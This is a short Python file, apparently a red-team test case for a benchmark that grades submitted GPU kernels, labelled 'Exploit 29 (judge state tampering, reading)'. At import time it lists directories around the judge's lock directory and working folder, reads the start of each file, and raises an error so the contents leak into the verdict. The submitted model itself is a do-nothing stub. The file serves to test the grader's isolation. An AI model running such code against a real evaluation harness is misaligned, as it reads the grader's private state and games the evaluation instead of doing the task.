"""Exploit 29 (judge state tampering, reading): look for the judge's files around its cache (the
workspace, its database, other workers' scratch) and put what it finds in its error message,
which ends up in the verdict. Nothing of the judge's must be readable."""
import os

import torch.nn as nn

found = []
roots = [os.environ.get("KERNELCRAFT_LOCK_DIR", ""), os.path.dirname(os.getcwd())]
for root in roots:
    for up in (root, os.path.dirname(root), os.path.dirname(os.path.dirname(root))):
        try:
            names = os.listdir(up)
        except OSError as e:
            found.append(f"list {up}: {type(e).__name__}")
            continue
        for name in names:
            path = os.path.join(up, name)
            if os.path.isfile(path):
                try:
                    with open(path, errors="replace") as f:
                        found.append(f"{path}: {f.read(200)}")
                except OSError as e:
                    found.append(f"{path}: {type(e).__name__}")
raise RuntimeError("kc-redteam-read: " + " | ".join(found)[:1400])


class ModelNew(nn.Module):
    def forward(self, x):
        return x
